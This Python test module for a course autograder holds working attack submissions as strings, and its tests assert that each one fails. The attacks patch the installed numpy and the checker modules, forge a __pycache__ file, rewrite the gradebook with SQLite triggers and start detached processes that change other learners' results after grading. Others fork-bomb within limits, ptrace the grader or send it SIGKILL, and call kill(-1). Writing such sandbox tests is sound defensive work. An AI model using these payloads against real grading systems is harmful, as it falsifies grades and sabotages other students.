"""Attacks on the code and environment that grade (issue 13, rows 3 and 4, and more).

Each attacker writes where the *next* grading run would pick its change up: a file of the
installed numpy, ``course_utils/checks/loss.py``, a forged ``__pycache__`` file for
``course_utils/checks/__init__.py`` (same mtime and size as the source, so Python trusts it),
``nbgrader_config.py``, the release folder; and notes in ``/tmp``, ``/dev/shm``, ``$HOME`` and
a System V shared memory segment for a learner graded later. The second grading run shows whether any of it took: an honest
blank learner must still score 0 there.

That second run shares the class out over two workers (``grade autograde --jobs 2``), each
its own ``nbgrader autograde`` with its own sandbox factory. So it also asks whether a
learner in one worker reaches one graded at the same time in the other: the note reader
and its writer land in different workers, and two holders (``b-holder``, ``m-holder``, one
in each worker) keep as many processes as the limit allows for 15 s while the other
learners are graded beside them.

The same class holds the attacks on grading's results and on the grader itself (issue 13,
rows 2 and 5, and more):
- the gradebook opened with sqlite3: its own ``manual_score`` raised, honest learners' set to
  0, triggers added so it keeps happening in later runs;
- processes that leave the sandbox (a new session and a double fork; a nohup-like child that
  ignores hang-ups) and, once grading has ended, rewrite an honest learner's autograded
  notebook and the gradebook; the test waits, then looks for them by their marker;
- the grader attacked from inside: SIGKILL to the ``nbgrader autograde`` ancestor, ptrace and
  ``/proc/<pid>/mem`` of it, and ``kill(-1)`` (only where the sandbox has its own PID namespace:
  elsewhere it would signal the whole machine).

All of them are graded in ONE class (a copy of the course and a class's grading cost some
50 s: once, not once for each kind).
"""
from __future__ import annotations

import glob
import os
import textwrap
import uuid

import pytest

from attacks import PRELUDE
from classroom import CourseCopy, describe, grade_class
from learners import attacker

pytestmark = pytest.mark.slow

NOTE = "lfm-note-" + uuid.uuid4().hex[:10]
SHM_KEY = uuid.uuid4().int % (1 << 30) + 1

# Makes every check of notebook 01 a no-op in whichever process imports it next.
NEUTER = textwrap.dedent('''
    def _lfm_neuter():
        import sys, importlib.abc, importlib.util
        class _Finder(importlib.abc.MetaPathFinder):
            def find_spec(self, name, path, target=None):
                if name != "course_utils.checks.loss":
                    return None
                sys.meta_path.remove(self)
                spec = importlib.util.find_spec(name)
                run = spec.loader.exec_module
                def exec_module(module):
                    run(module)
                    for key in list(vars(module)):
                        if key.startswith("check_"):
                            setattr(module, key, lambda *a, **k: None)
                spec.loader.exec_module = exec_module
                return spec
        sys.meta_path.insert(0, _Finder())
    _lfm_neuter()
''')

NUMPY = textwrap.dedent(f'''
    import numpy
    try:
        with open(numpy.__file__, "a") as _f:
            _f.write({NEUTER!r})
        print("ATTACK numpy: appended to", numpy.__file__)
    except OSError as error:
        print("ATTACK numpy: refused", error)
''')

CHECKS = PRELUDE + textwrap.dedent('''
    import course_utils.checks.loss as _loss
    for _path, _text in [(_loss.__file__, "\\ndef check_squared_error(*a, **k): return None\\n"
                                          "check_mse = check_mse_grad = check_squared_error\\n")] + \\
            [(p, " ") for p in _find("notebooks/01_loss/01_loss.ipynb")]:
        try:
            with open(_path, "a") as _f:
                _f.write(_text)
            print("ATTACK checks: appended to", _path)
        except OSError as error:
            print("ATTACK checks: refused", _path, error)
''')

PYCACHE = textwrap.dedent(f'''
    import importlib.util, importlib._bootstrap_external as _bx, os
    import course_utils.checks as _checks
    _source = _checks.__file__
    _stat = os.stat(_source)
    _code = compile(open(_source).read() + {NEUTER!r}, _source, "exec")
    _pyc = importlib.util.cache_from_source(_source)
    try:
        os.makedirs(os.path.dirname(_pyc), exist_ok=True)
        with open(_pyc, "wb") as _f:
            _f.write(_bx._code_to_timestamp_pyc(_code, int(_stat.st_mtime), _stat.st_size))
        print("ATTACK pycache: forged", _pyc)
    except OSError as error:
        print("ATTACK pycache: refused", error)
''')

CONFIG = PRELUDE + textwrap.dedent(f'''
    _configs = _find("nbgrader_config.py")
    for _path in _configs:
        try:
            with open(_path, "a") as _f:
                _f.write({NEUTER!r})
            print("ATTACK config: appended to", _path)
        except OSError as error:
            print("ATTACK config: refused", _path, error)
    if not _configs:
        print("ATTACK config: no nbgrader_config.py in sight")
''')

TMP_WRITER = textwrap.dedent(f'''
    import os
    for _folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd() + "/.."):
        try:
            with open(os.path.join(_folder, "{NOTE}"), "w") as _f:
                _f.write("left by an earlier learner")
            print("ATTACK tmp: wrote", _folder)
        except OSError as error:
            print("ATTACK tmp: refused", _folder, error)
    import ctypes
    _libc = ctypes.CDLL(None, use_errno=True)
    if _libc.shmget({SHM_KEY}, 4096, 0o1666) >= 0:   # IPC_CREAT | 0666: outlives its process
        print("ATTACK tmp: left a System V shared memory segment")
''')

TMP_READER = textwrap.dedent(f'''
    import os
    for _folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd() + "/.."):
        if os.path.exists(os.path.join(_folder, "{NOTE}")):
            print("ATTACK tmp-reader: found the earlier learner's note in", _folder)
    import ctypes
    if ctypes.CDLL(None).shmget({SHM_KEY}, 0, 0) >= 0:
        print("ATTACK tmp-reader: found the earlier learner's shared memory segment")
''')

# Holds as many processes as the limit allows for 15 s, while the other worker grades.
HOLDER = textwrap.dedent('''
    import os, time
    _children = []
    for _ in range(300):
        try:
            _pid = os.fork()
        except OSError:
            break
        if _pid == 0:
            time.sleep(15)
            os._exit(0)
        _children.append(_pid)
    print("ATTACK holder: holding", len(_children), "processes")
    for _pid in _children:
        os.waitpid(_pid, 0)
''')

ATTACKERS = {"m-numpy": NUMPY, "m-checks": CHECKS, "m-pycache": PYCACHE, "m-config": CONFIG,
             "m-tmp-1-writer": TMP_WRITER, "m-tmp-2-reader": TMP_READER,
             "b-holder": HOLDER, "m-holder": HOLDER}


# ---- attacks on grading's results and on the grader itself

MARKER = "lfm-escape-" + uuid.uuid4().hex[:10]

STUDENT_OF = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
              "WHERE sa.student_id {}")

GRADEBOOK = PRELUDE + textwrap.dedent(f'''
    import sqlite3
    _mine = "notebook_id IN ({STUDENT_OF.format("= 'm-gradebook'")})"
    _theirs = "notebook_id IN ({STUDENT_OF.format("LIKE '%honest-correct'")})"
    for _path in _gradebooks():
        try:
            _db = sqlite3.connect(_path, timeout=20)
            _db.execute(f"UPDATE grade SET manual_score = 99 WHERE {{_mine}}")
            _db.execute(f"UPDATE grade SET manual_score = 0 WHERE {{_theirs}}")
            for _when in ("INSERT", "UPDATE"):
                _db.execute(f"CREATE TRIGGER IF NOT EXISTS lfm_{{_when.lower()}} AFTER {{_when}} ON grade BEGIN "
                            f"UPDATE grade SET manual_score = 99 WHERE {{_mine}} AND manual_score IS NOT 99; "
                            f"UPDATE grade SET manual_score = 0 WHERE {{_theirs}} AND manual_score IS NOT 0; END")
            _db.commit()
            print("ATTACK gradebook: scores changed and triggers added in", _path)
        except Exception as error:
            print("ATTACK gradebook: failed on", _path, error)
    if not _gradebooks():
        print("ATTACK gradebook: no gradebook in sight")
''')

# Runs detached: waits for its ancestors (the grader) to end, then rewrites others' results.
PAYLOAD = textwrap.dedent('''
    import os, sys, time, json, glob, sqlite3, signal
    for _sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(_sig, signal.SIG_IGN)
    marker, ancestors, gradings = sys.argv[1], [int(p) for p in sys.argv[2].split(",") if p], sys.argv[3:]
    deadline = time.time() + 300
    while time.time() < deadline and any(os.path.exists(f"/proc/{p}") for p in ancestors):
        time.sleep(0.2)
    for grading in gradings:
        for path in glob.glob(os.path.join(grading, "autograded", "*honest-correct", "*", "*.ipynb")):
            try:
                notebook = json.load(open(path))
                notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "rewritten " + marker})
                os.chmod(path, 0o644)
                json.dump(notebook, open(path, "w"))
            except Exception:
                pass
        try:
            db = sqlite3.connect(os.path.join(grading, "gradebook.db"), timeout=20)
            db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            db.commit()
        except Exception:
            pass
    time.sleep(600)  # still here afterwards: the test must not find it
''')

def detached(marker: str) -> str:
    return PRELUDE + textwrap.dedent(f'''
    import subprocess
    def _ancestors():
        chain, pid = [], os.getppid()
        while pid > 1:  # up to the grading command (course.py), not the shell that started it
            chain.append(pid)
            try:
                if b"course.py" in open(f"/proc/{{pid}}/cmdline", "rb").read():
                    break
                pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
            except OSError:
                break
        return ",".join(map(str, chain))
    _gradings = [os.path.dirname(p) for p in _gradebooks()] or [os.path.join(r, "grading") for r in _roots()]
    _argv = [sys.executable, "-c", {PAYLOAD!r}, "{marker}", _ancestors(), *_gradings]
    _env = dict(os.environ, LFM_MARKER="{marker}")
    if os.fork() == 0:                      # a new session, then a double fork: init adopts it
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, _argv, _env)
        os._exit(0)
    subprocess.Popen(["nohup", *_argv] if os.path.exists("/usr/bin/nohup") else _argv, env=_env,
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    print("ATTACK detached: started two detached processes that wait for", _ancestors(), "to end")
''')


# A process that keeps changing its pid (fork, parent exits) so a sweep over /proc can miss
# it; where confined (own PID namespace, not root) it kills every process it may signal:
# the next learners' sandboxes.
HOPPER = textwrap.dedent('''
    import os, sys, time, signal
    host_namespace = sys.argv[2]
    deadline = time.time() + 60
    while time.time() < deadline:
        if os.fork() != 0:
            os._exit(0)
        confined = os.readlink("/proc/self/ns/pid") != host_namespace and os.getuid() != 0
        if confined:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.05)
''')


def hopper(host_pid_namespace: str) -> str:
    return textwrap.dedent(f'''
        import os, sys, subprocess
        subprocess.Popen([sys.executable, "-c", {HOPPER!r}, "{MARKER}", {host_pid_namespace!r}],
                         env=dict(os.environ, LFM_MARKER="{MARKER}"), start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("ATTACK hopper: started")
    ''')


def grader_attacks(host_pid_namespace: str) -> str:
    return PRELUDE + textwrap.dedent(f'''
        import signal, ctypes
        _graders = []
        for _pid in os.listdir("/proc"):
            if not _pid.isdigit() or int(_pid) == os.getpid():
                continue
            try:
                _cmd = open(f"/proc/{{_pid}}/cmdline", "rb").read()
                _cwd = os.readlink(f"/proc/{{_pid}}/cwd")
            except OSError:
                continue
            if b"nbgrader" in _cmd and b"autograde" in _cmd and any(_cwd == r for r in _roots()
                                                                 if os.path.exists(os.path.join(r, "nbgrader_config.py"))):
                _graders.append(int(_pid))
        print("ATTACK grader: grader processes in sight:", _graders)
        _libc = ctypes.CDLL(None, use_errno=True)
        for _pid in _graders:
            if _libc.ptrace(16, _pid, None, None) == 0:   # PTRACE_ATTACH
                print("ATTACK grader: ptrace attached to", _pid)
                _libc.ptrace(17, _pid, None, None)         # PTRACE_DETACH
            try:
                open(f"/proc/{{_pid}}/mem", "r+b").close()
                print("ATTACK grader: /proc/%d/mem open for writing" % _pid)
            except OSError as error:
                print("ATTACK grader: /proc/mem refused", error)
        try:
            open("/proc/self/oom_score_adj", "w").write("-1000")
            print("ATTACK grader: made itself unkillable by the OOM killer")
        except OSError as error:
            print("ATTACK grader: oom_score_adj refused", error)
        for _pid in _graders:
            try:
                os.kill(_pid, signal.SIGKILL)
                print("ATTACK grader: SIGKILL sent to", _pid)
            except OSError as error:
                print("ATTACK grader: kill refused", error)
        if os.readlink("/proc/self/ns/pid") != {host_pid_namespace!r}:   # confined: only its own namespace
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError as error:
                print("ATTACK grader: kill(-1) refused", error)
    ''')


@pytest.fixture(scope="module")
def graded(template, tmp_path_factory):
    where = tmp_path_factory.mktemp("environment-and-escape")
    course = CourseCopy.clone(template, where / "course")
    attackers = {name: attacker(course, code) for name, code in ATTACKERS.items()}
    attackers.update({"m-gradebook": attacker(course, GRADEBOOK), "m-detached": attacker(course, detached(MARKER)),
                      "m-hopper": attacker(course, hopper(os.readlink("/proc/self/ns/pid"))),
                      "y-grader": attacker(course, grader_attacks(os.readlink("/proc/self/ns/pid")))})
    yield grade_class(course, attackers, where, settle=6.0, markers=(MARKER,))
    for path in glob.glob(f"/tmp/{NOTE}") + glob.glob(f"/dev/shm/{NOTE}"):
        os.remove(path)  # where an unconfined writer put them
    import ctypes
    libc = ctypes.CDLL(None)
    segment = libc.shmget(SHM_KEY, 0, 0)
    if segment >= 0:
        libc.shmctl(segment, 0, None)  # IPC_RMID


def test_environment_and_escape_attacks_leave_every_promise_standing(graded):
    problems = graded.postcondition_failures({name: 0.0 for name in graded.notes})
    assert not problems, "\n".join(problems) + "\n" + describe(graded)


def test_grading_code_and_environment_unchanged(graded):
    assert graded.changes == [], graded.changes


def test_the_process_limit_held_in_one_worker_stops_no_one_in_the_other(graded):
    """Both holders ran (in run 2 at the same time as the other worker's learners), and
    every honest learner kept full marks: postcondition_failures above checks the scores."""
    from course_utils.grading.parallel import plan

    # The class is dealt to the two workers of run 2 as `grade autograde --jobs 2` deals it:
    # a renamed or added learner must not put both holders (or the note's writer and reader) in one.
    shares = plan(sorted(("01_loss", name) for name in graded.learners), 2)
    worker = {name: k for k, share in enumerate(shares) for _, name in share}
    assert worker["b-holder"] != worker["m-holder"], shares
    assert worker["m-tmp-1-writer"] != worker["m-tmp-2-reader"], shares
    for name in ("b-holder", "m-holder"):
        held = [n for n in graded.notes[name] if n.startswith("ATTACK holder: holding")]
        assert held and int(held[-1].split()[-2]) > 0, graded.notes[name]


def test_a_later_learner_sees_nothing_an_earlier_one_left(graded):
    assert not [n for n in graded.notes["m-tmp-2-reader"] if "found" in n], graded.notes["m-tmp-2-reader"]


def test_gradebook_keeps_nbgrader_schema_and_no_manual_scores(graded):
    import sqlite3

    with sqlite3.connect(graded.course.gradebook) as db:
        triggers = db.execute("SELECT name FROM sqlite_master WHERE type IN ('trigger', 'view')").fetchall()
        manual = db.execute("SELECT COUNT(*) FROM grade WHERE manual_score IS NOT NULL").fetchone()[0]
    assert triggers == [] and manual == 0, (triggers, manual, describe(graded))


def test_no_detached_process_survives_or_acts_after_grading(graded):
    assert all(not leftovers for *_, leftovers in graded.runs), [r[3] for r in graded.runs]
    assert graded.settled == [[], []], graded.settled
    assert MARKER not in graded.course.autograded("a-honest-correct").read_text()


def test_grader_is_out_of_reach(graded):
    notes = " | ".join(graded.notes["y-grader"])
    for success in ("ptrace attached", "open for writing", "SIGKILL sent", "unkillable"):
        assert success not in notes, notes
